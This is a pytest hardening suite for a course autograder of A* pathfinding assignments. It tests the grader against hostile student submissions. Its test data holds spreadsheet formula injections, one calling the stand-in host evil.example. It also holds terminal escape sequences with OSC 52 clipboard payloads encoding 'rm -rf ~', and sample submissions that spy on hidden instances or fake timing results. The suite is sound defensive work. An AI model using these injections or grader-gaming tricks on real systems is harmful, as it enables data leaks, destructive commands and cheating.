"""The grader hardened against what students choose: folder names, terminal control sequences, timed
runs, hidden instances, resumed reports, tie credit; and grading that stops when no sandbox can
start. Every submission here is graded for real:
real folders with hostile names, real sandboxed children, `ftr` run as a subprocess.

Referees are independent of the code under test: the names and escapes are written out by hand
below; which runs differ from the SPEC's is decided by running the submission in this process and
comparing with the reference solver's trace (tests/autograder/test_autograder_grading.py's `referee_losses`).
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from autograder.grader import GradingOptions, grade_submission, probe_seed
from autograder.instances import derived_seed, efficiency_probe
from tests.autograder.test_autograder_grading import _load_module, _normal, referee_losses, write_submission

HERE = Path(__file__).resolve().parents[1]
REPO = HERE.parent
SUBMISSIONS = HERE / "submissions"

#: Every character that must never reach a terminal raw (ESC, BEL, CR, BS, DEL, C1 CSI, bidi override).
RAW_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")


def ftr(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "reference.cli", *args], capture_output=True, text=True,
                          check=False, env={**os.environ, **(env or {})}, cwd=REPO, timeout=900,
                          errors="surrogateescape")


def rubric_env(folder: Path, text: str) -> dict:
    path = folder / "rubric.toml"
    path.write_text(text)
    return {"FTR_RUBRIC": str(path)}


def open_folder() -> Path:
    """A folder the sandbox uids may enter (pytest's tmp_path is root's alone when run as root)."""
    folder = Path(tempfile.mkdtemp(prefix="ftr-hardening-test-"))
    folder.chmod(0o755)
    return folder


# -- names chosen by students --------------------------------------------------------------------------

HOSTILE_NAMES = {
    # the folder's bytes on disk: the name the gradebook must show (escaped, never a live formula)
    b"caf\xe9_windows_zip": "caf\\xe9_windows_zip",
    b"y" * 240: "y" * 240,
    b"=HYPERLINK(\"evil.example?\"&A1,\"click\")": "'=HYPERLINK(\"evil.example?\"&A1,\"click\")",
    b"+cmd|' -C calc'!A0": "'+cmd|' -C calc'!A0",
    b"-2+3": "'-2+3",
    b"@SUM(A1:A9)": "'@SUM(A1:A9)",
    b"\tTAB": "'\tTAB",
    b"\x1b]52;c;ZWNobyBwd25lZA==\x07osc52": "\\x1b]52;c;ZWNobyBwd25lZA==\\x07osc52",
}


def test_names_students_chose_never_end_the_batch_or_become_formulas():
    """Non-UTF-8, 240-byte, formula-like and escape-laden folder names, between two innocents: every
    one graded (full marks on the heap), reports with safe names, the gradebook lists each name escaped."""
    folder = open_folder()
    try:
        submissions = folder.joinpath("submissions")
        submissions.mkdir()
        names = [b"aaa_innocent", b"zzz_innocent", *HOSTILE_NAMES]
        for name in names:
            shutil.copytree(SUBMISSIONS / "correct_dicts", os.fsdecode(os.path.join(os.fsencode(submissions), name)))
        out = folder / "grades"
        result = ftr("grade-all", str(submissions), "--out", str(out), "--jobs", "2",
                     env=rubric_env(folder, "[autograded]\nheap = 8\n"))
        assert result.returncode == 0, result.stderr
        assert not RAW_CONTROLS.search(result.stdout + result.stderr)

        gradebook = (out / "gradebook.csv").read_bytes().decode("utf-8")  # valid UTF-8
        assert not RAW_CONTROLS.search(gradebook.replace("\r\n", "\n"))  # CSV's own line ends only
        rows = {row["submission"]: row for row in csv.DictReader(gradebook.splitlines(True))}
        expected_names = {"aaa_innocent", "zzz_innocent", *HOSTILE_NAMES.values()}
        assert set(rows) == expected_names, sorted(rows)
        assert all(float(row["score"]) == 8 for row in rows.values()), rows
        for row in rows.values():
            for cell in row.values():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

        reports = sorted(p.name for p in out.iterdir() if p.name != "gradebook.csv")
        assert len(reports) == 2 * len(names)
        for report in reports:
            assert len(report.encode()) <= 110 and not RAW_CONTROLS.search(report), report
            report.encode("utf-8")  # valid UTF-8: no surrogates
        assert {"aaa_innocent.json", "zzz_innocent.txt", "-2+3.json"} <= set(reports)  # plain names stay plain
        for text in (out / r for r in reports if r.endswith(".txt")):
            assert not RAW_CONTROLS.search(text.read_text()), text
    finally:
        shutil.rmtree(folder, ignore_errors=True)


# -- terminal control sequences ------------------------------------------------------------------------

ESCAPES = ("\x1b[2J\x1b[H[ok  ] forward_larger_g  14 / 14\x1b]0;window title\x07"
           "\x1b]52;c;cm0gLXJmIH4K\x07\x9b31m\r[ok  ] heap  8 / 8\u202e")

FORGER_HEAP = f'''
from heap_base import BinaryHeap as _Base
print({ESCAPES!r})


class BinaryHeap(_Base):
    def peek(self):
        raise RuntimeError({ESCAPES!r})
'''

FORGER_REPLANNING = f'''
print({ESCAPES!r})
raise RuntimeError({ESCAPES!r})
'''


def test_control_sequences_reach_no_terminal_report_or_gradescope_raw(tmp_path):
    """Screen clears, a forged "[ok  ]" line, a window title, OSC 52 clipboard writes and a C1 CSI,
    in exceptions and printed output: shown escaped everywhere, and no forged line at column 0."""
    folder = open_folder()
    try:
        submission = folder / "forger"
        submission.mkdir()
        shutil.copy(SUBMISSIONS / "correct_dicts" / "heap.py", submission / "heap_base.py")
        (submission / "heap.py").write_text(FORGER_HEAP)
        (submission / "replanning.py").write_text(FORGER_REPLANNING)
        env = rubric_env(folder, "[autograded]\nheap = 8\nforward_larger_g = 14\n")
        result = ftr("grade", str(submission), "--json", str(tmp_path / "r.json"), "--gradescope",
                     str(tmp_path / "g.json"), env=env)
        assert result.returncode == 0, result.stderr
        assert not RAW_CONTROLS.search(result.stdout + result.stderr), repr(result.stdout)
        assert "\\x1b]52;c;cm0gLXJmIH4K\\x07" in result.stdout  # shown, as written
        status_lines = [line for line in result.stdout.split("\n") if line.startswith("[")]
        assert len(status_lines) == 2 and not any(line.startswith("[ok  ]") for line in status_lines), \
            result.stdout  # the two real checks, neither passed: nothing forged
        assert result.stdout.count("Total:") == 1
        gradescope = json.loads((tmp_path / "g.json").read_text())
        texts = [gradescope["output"]] + [test["output"] for test in gradescope["tests"]]
        assert any("\\x1b[2J" in text for text in texts)
        assert not any(RAW_CONTROLS.search(text) for text in texts)
        report = json.loads((tmp_path / "r.json").read_text())
        assert report["score"] == 0 or report["checks"][0]["status"] != "passed"
    finally:
        shutil.rmtree(folder, ignore_errors=True)


# -- grading stops when the sandbox cannot start -----------------------------------------------------

def test_no_sandbox_means_no_grading_and_no_reports(tmp_path):
    """A child interpreter that cannot run: `ftr grade`, `ftr check` and `ftr grade-all` stop before
    grading anyone, with one line naming what is missing and exit status 2; no report, no gradebook."""
    submissions = tmp_path / "submissions"
    shutil.copytree(SUBMISSIONS / "correct_dicts", submissions / "ada")
    env = {"FTR_SANDBOX_PYTHON": str(tmp_path / "no-such-python")}
    for args in (["grade", str(submissions / "ada"), "--json", str(tmp_path / "r.json"),
                  "--gradescope", str(tmp_path / "g.json")],
                 ["check", str(submissions / "ada")],
                 ["grade-all", str(submissions), "--out", str(tmp_path / "grades")]):
        result = ftr(*args, env=env)
        assert result.returncode == 2, (args, result.stderr)
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("ftr: error: cannot grade on this machine"), lines
        assert "no-such-python" in lines[0] and "NumPy" in lines[0]
        assert result.stdout == ""
    assert not (tmp_path / "r.json").exists() and not (tmp_path / "g.json").exists()
    assert not (tmp_path / "grades").exists()


def test_ftr_check_exit_status_says_full_marks_or_not(tmp_path):
    """0 at full marks (our own correct submission), 1 below (the starter), 2 for a usage error."""
    env = rubric_env(tmp_path, "[autograded]\nheap = 8\nforward_larger_g = 14\n")
    assert ftr("check", str(SUBMISSIONS / "correct_classes"), env=env).returncode == 0
    below = ftr("check", str(REPO / "starter"), env=env)
    assert below.returncode == 1 and "Total: 0 / 22" in below.stdout
    assert ftr("check", str(tmp_path / "absent"), env=env).returncode == 2


# -- also seen: grade-all does not resume reports made with other options -----------------------------------

def test_grade_all_grades_again_when_options_rubric_or_seed_change():
    folder = open_folder()
    try:
        submissions = folder / "submissions"
        shutil.copytree(SUBMISSIONS / "correct_dicts", submissions / "ada")
        out = folder / "grades"
        env = rubric_env(folder, "[autograded]\nheap = 8\n")

        def run(*extra: str, **more_env: str) -> int:
            result = ftr("grade-all", str(submissions), "--out", str(out), *extra, env={**env, **more_env})
            assert result.returncode == 0, result.stderr
            return (out / "ada.json").stat().st_mtime_ns

        first = run()
        assert run() == first                                    # same options: resumed
        longer = run("--task-seconds", "20")
        assert longer != first                                   # another time limit: graded again
        hidden = run("--task-seconds", "20", "--hidden", FTR_SECRET_SEED="111")
        assert hidden != longer
        assert json.loads((out / "ada.json").read_text())["instances"] == "public + hidden"
        assert run("--task-seconds", "20", "--hidden", FTR_SECRET_SEED="111") == hidden
        assert run("--task-seconds", "20", "--hidden", FTR_SECRET_SEED="222") != hidden  # another seed
        record = json.loads((out / "ada.json").read_text())
        assert "222" not in json.dumps(record["options"])  # the seed only as a one-way digest
        (folder / "rubric.toml").write_text("[autograded]\nheap = 9\n")
        assert run("--task-seconds", "20", "--hidden", FTR_SECRET_SEED="222") != hidden
        assert json.loads((out / "ada.json").read_text())["max_score"] == 9
    finally:
        shutil.rmtree(folder, ignore_errors=True)


# -- hidden instances never reach visible feedback ----------------------------------------------------

SPY = '''
import sys

SEEN = []


def _spy(world, start, target, tie_break="larger_g"):
    task = sys._getframe(1).f_locals.get("task", {})  # the harness's task header, as a hostile child sees it
    SEEN.append(f"{world.height}x{world.width} label=<{task.get('label')}> group=<{task.get('group')}>")
    raise RuntimeError("SEEN SO FAR: " + " | ".join(reversed(SEEN[-40:])))


repeated_forward_astar = repeated_backward_astar = adaptive_astar = _spy
'''
#: Hidden instance sizes (autograder.instances.hidden_instances) that no public instance has.
HIDDEN_ONLY_SIZES = ("41x41", "31x71", "61x61", "31x31", "21x21")


def test_a_child_that_saw_a_hidden_instance_never_answers_a_visible_check(monkeypatch):
    """The spy raises, in every task, everything its process has seen (sizes, labels): visible checks
    show public sizes only; the hidden checks (after the due date) show the hidden ones, and no label
    or group the child saw names an instance."""
    monkeypatch.setenv("FTR_SECRET_SEED", "4242")
    folder = open_folder()
    try:
        submission = folder / "spy"
        submission.mkdir()
        shutil.copy(SUBMISSIONS / "correct_dicts" / "heap.py", submission / "heap.py")
        (submission / "replanning.py").write_text(SPY)
        report = grade_submission(submission, GradingOptions(hidden=True, workers=2,
                                                             checks=("forward_larger_g", "adaptive", "efficiency")))
        results = report.gradescope()
        visible = [t["output"] for t in results["tests"] if t["visibility"] == "visible"] + [results["output"]]
        later = [t["output"] for t in results["tests"] if t["visibility"] == "after_due_date"]
        assert later and all("SEEN SO FAR" in text for text in later)
        assert any(size in text for text in later for size in HIDDEN_ONLY_SIZES)  # the spy works
        assert all("SEEN SO FAR" in text for text in visible[:-1])
        assert not any(size in text for text in visible for size in HIDDEN_ONLY_SIZES), visible
        seen = [match for text in visible + later for match in re.findall(r"label=<([^>]*)> group=<([^>]*)>", text)]
        assert seen and not any(word in label + group for label, group in seen
                                for word in ("hidden", "maze", "example", "corridor", "walled"))  # neutral
    finally:
        shutil.rmtree(folder, ignore_errors=True)


# -- efficiency ---------------------------------------------------------------------------------------

NO_SEARCH_ON_BIG_GRIDS = ('''def repeated_forward_astar(world, start, target, tie_break="larger_g"):
    return _run(world, start, target, tie_break, "forward")''',
                          '''def repeated_forward_astar(world, start, target, tie_break="larger_g"):
    if world.width > 500:  # the probe: no search at all, "took 0.00 s"
        return {"algorithm": "forward", "tie_break": tie_break, "reached": False,
                "trajectory": [list(start)], "searches": []}
    return _run(world, start, target, tie_break, "forward")''')

SLOW_THEN_REPLAYED = ('''def repeated_forward_astar(world, start, target, tie_break="larger_g"):
    return _run(world, start, target, tie_break, "forward")''',
                      '''_MEMORY = {}


def repeated_forward_astar(world, start, target, tie_break="larger_g"):
    key = (world.height, world.width, tuple(start), tuple(target), tie_break)
    if key in _MEMORY:  # a second run in the same process: replay the first from memory (walk included)
        for cell in _MEMORY[key]["trajectory"]:
            world.sense(tuple(cell))
        return _MEMORY[key]
    import time

    began = time.process_time()
    _MEMORY[key] = _run(world, start, target, tie_break, "forward")
    if world.width > 500:  # slow on purpose: 12 times its own search + 1 s of CPU. The search here is
        # the reference's, yet its CPU time here and the reference's where the grader timed it differ by
        # up to a third on a loaded machine. With the reference's search at about 0.33 s, as here, any
        # search time from half to 1.5 times the reference's puts this over the limit (8 x the
        # reference's time + 0.3 s) and within the run's budget (twice the limit + 1 s): the child lives on
        took = time.process_time() - began
        while time.process_time() - began < 12 * took + 1.0:
            pass
    return _MEMORY[key]''')


def test_a_timed_run_that_computes_nothing_earns_no_efficiency_points(tmp_path):
    folder = write_submission(tmp_path / "no_search", [NO_SEARCH_ON_BIG_GRIDS])
    report = grade_submission(folder, GradingOptions(checks=("forward_larger_g", "efficiency")))
    efficiency = next(c for c in report.checks if c.id == "efficiency")
    assert efficiency.points == 0, report.to_text()
    assert "does no real search" in "\n".join(efficiency.messages)
    assert next(c for c in report.checks if c.id == "forward_larger_g").status == "passed"


def test_each_timed_run_starts_in_a_fresh_child(tmp_path):
    """Slow the first time, instant from memory the second: in fresh children both runs are slow."""
    folder = write_submission(tmp_path / "replayer", [SLOW_THEN_REPLAYED])
    report = grade_submission(folder, GradingOptions(checks=("efficiency",)))
    efficiency = next(c for c in report.checks if c.id == "efficiency")
    assert efficiency.points == 0, report.to_text()
    assert "too slow" in "\n".join(efficiency.messages) or "stopped after" in "\n".join(efficiency.messages)


def test_the_probe_follows_the_secret_seed(monkeypatch):
    """A regrade times the same probe; another secret, another probe; no secret, a random one."""
    monkeypatch.setenv("FTR_SECRET_SEED", "777")
    assert probe_seed() == probe_seed() == derived_seed(777, "efficiency probe")
    first = efficiency_probe(probe_seed())
    monkeypatch.setenv("FTR_SECRET_SEED", "778")
    assert (efficiency_probe(probe_seed()).grid.blocked != first.grid.blocked).any()
    monkeypatch.setenv("FTR_SECRET_SEED", "")
    monkeypatch.setenv("FTR_SECRET_SEED_FILE", "/nonexistent/seed")
    assert probe_seed() != probe_seed()  # random per grading where there is no secret


# -- also seen: the "other ties" credit -----------------------------------------------------------------

#: Adaptive A* that forgets to learn h for the first state it expands (the agent's cell) after each search.
WRONG_H = ("            for cell in closed:\n", "            for cell in closed[1:]:\n")
#: Remaining ties broken by the cells' coordinates (what heapq with (f, -g, cell) entries does).
CELL_ORDER_TIES = ("return (g[cell] + h(cell), second, stamp)", "return (g[cell] + h(cell), second, cell)")


def _judged_in_process(folder: Path, instance, algorithm: str):
    """The submission's run on ``instance``, made in this process and judged as the grader judges a reply."""
    from array import array

    from autograder.expected import expected_run
    from autograder.searchcheck import judge_run
    from reference.world.sensing import FogOfWarWorld
    from reference.world.trace import encode_trace

    module = _load_module(folder)
    world = FogOfWarWorld(instance.grid, instance.start)
    function = {"forward": module.repeated_forward_astar, "adaptive": module.adaptive_astar}[algorithm]
    trace = function(world, instance.start, instance.target)
    header, arrays = encode_trace(trace, instance.grid.height, instance.grid.width)
    visited = array("i", [row * instance.grid.width + col for row, col in world.visited])
    return trace, judge_run(instance, algorithm, "larger_g", header, arrays + [visited],
                            expected_run(instance, f"{algorithm}" if algorithm == "adaptive" else "forward_larger_g"))


def test_a_wrong_learned_h_is_judged_by_what_its_expansions_show(tmp_path):
    """The grader judges legality: an expansion the correct keys allow is legal, whatever h the code
    used. On the hidden 61 x 61 maze this wrong h (each search's first state never learns its h)
    shows only as another choice among entries equal in f and g: a legal run, indistinguishable from a
    correct A* that breaks remaining ties otherwise, so it earns the tie credit there. On standard
    maze 6 the same mistake makes an expansion no correct key allows, and the message shows the
    learned h beside the Manhattan distance and names the learned-h rule, not the tie rule. The
    referee: the runs differ from the reference solver's, and the code is wrong by construction."""
    from autograder.instances import hidden_instances
    from reference.solutions import solve
    from reference.world.instances import load_folder, standard_mazes_dir

    folder = write_submission(tmp_path / "wrong_h", [WRONG_H])
    hidden = next(i for i in hidden_instances(12345) if i.name == "hidden_maze_61x61")
    trace, verdict = _judged_in_process(folder, hidden, "adaptive")
    assert _normal(trace) != _normal(solve(hidden, "adaptive", "larger_g"))
    assert verdict.tier == "ties", verdict
    assert "search 16, expansion 2" in verdict.note and "learned: the Manhattan distance is 2" in verdict.note
    maze = load_folder(standard_mazes_dir())[6]
    trace, verdict = _judged_in_process(folder, maze, "adaptive")
    assert verdict.tier == "wrong", verdict
    assert "learned: the Manhattan distance is" in verdict.problem and "h(s) = g(goal) - g(s)" in verdict.problem


def test_ties_broken_by_cell_order_still_earn_the_tie_credit(tmp_path, rubric):
    folder = write_submission(tmp_path / "cell_ties", [CELL_ORDER_TIES])
    differing = referee_losses(folder, rubric, ("forward_larger_g",))
    report = grade_submission(folder, GradingOptions(checks=("forward_larger_g",)))
    check = next(c for c in report.checks if c.id == "forward_larger_g")
    assert differing.get("forward_larger_g"), "no remaining tie differs: the test lost its point"
    expected = rubric.autograded["forward_larger_g"] - (1 - rubric.ties_credit) * differing["forward_larger_g"]
    assert check.points == pytest.approx(expected, abs=0.011), report.to_text()


@pytest.fixture(scope="module")
def rubric():
    from autograder.rubric import load_rubric

    return load_rubric()


FLOODER = '''
def repeated_forward_astar(world, start, target, tie_break="larger_g"):
    start = list(start)
    return {"algorithm": "forward", "tie_break": tie_break, "reached": False, "trajectory": [start],
            "searches": [{"start": start, "goal": list(target), "expanded": [start] * 5_000_000, "path": []}]}


repeated_backward_astar = adaptive_astar = repeated_forward_astar
'''


def test_a_reply_too_large_says_how_far_it_is_from_the_expected_run():
    """5,000,000 expansions (20 MB of trace, over the 16 MiB that any reply may hold) where the handout's
    example needs a few dozen: the message says what the run did beside the expected run (searches,
    expansions, moves), and does not blame the stop rule, as no search expanded its goal."""
    from autograder.expected import expected_run
    from autograder.instances import example_instances

    folder = open_folder()
    try:
        submission = folder / "flooder"
        submission.mkdir()
        shutil.copy(SUBMISSIONS / "correct_dicts" / "heap.py", submission / "heap.py")
        (submission / "replanning.py").write_text(FLOODER)
        report = grade_submission(submission, GradingOptions(checks=("forward_larger_g",)))
        text = "\n".join(next(c for c in report.checks if c.id == "forward_larger_g").messages)
        example = expected_run(example_instances()[0], "forward_larger_g")
        assert "it made 1 searches" in text and "5,000,000 expansions" in text, text
        assert f"times the expected {example.expansions:,})" in text, text
        assert "g(goal)" not in text, text
    finally:
        shutil.rmtree(folder, ignore_errors=True)
